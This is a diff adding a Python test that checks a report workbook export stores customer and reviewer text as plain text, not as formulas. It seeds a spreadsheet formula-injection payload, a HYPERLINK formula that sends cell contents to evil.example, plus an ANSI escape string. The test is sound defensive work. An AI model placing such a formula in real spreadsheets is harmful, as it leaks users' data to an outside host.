@@ -410,3 +410,41 @@ def test_since_date_is_a_day(case):
     assert content.since == dt.date(2026, 11, 5)
     assert content.insights.answers == 5
     assert content.title == "Quality report: b1, since 2026-11-05"
+
+
+def test_workbook_keeps_customer_text_as_text(case):
+    """A customer's message that starts with ``=`` (or holds a control character) is a
+    confidently wrong conversation's snippet, and a reviewer's comment starts with ``=``:
+    the workbook stores them as text, never as formulas, and does not fail."""
+    from openpyxl import load_workbook
+    from sqlalchemy import select, update
+
+    from labeldesk.storage.models import Review, ReviewItem, Turn
+
+    c2, c9 = case.conversations["c2"], case.conversations["c9"]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with case.ws.db.sessions.begin() as s:
+        s.execute(update(Turn).where(Turn.conversation_id == c2, Turn.idx == 1).values(text=evil))
+        s.execute(
+            update(Turn).where(Turn.conversation_id == c9, Turn.idx == 0).values(text="\x1b[31mhi")
+        )
+        latest = s.scalars(
+            select(Review)
+            .join(ReviewItem, ReviewItem.id == Review.review_item_id)
+            .where(ReviewItem.conversation_id == c2)
+            .order_by(Review.created_at.desc())
+        ).first()
+        latest.comment = "=1+1"
+    content = build_content(case.ws.db, batch="b1", title="Case b1")
+    wb = load_workbook(io.BytesIO(workbook_bytes(content)))
+    formulas = [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in wb.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    texts = [c for sheet in wb.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
+    assert evil in texts
+    assert any(isinstance(t, str) and t.startswith("=1+1") for t in texts)
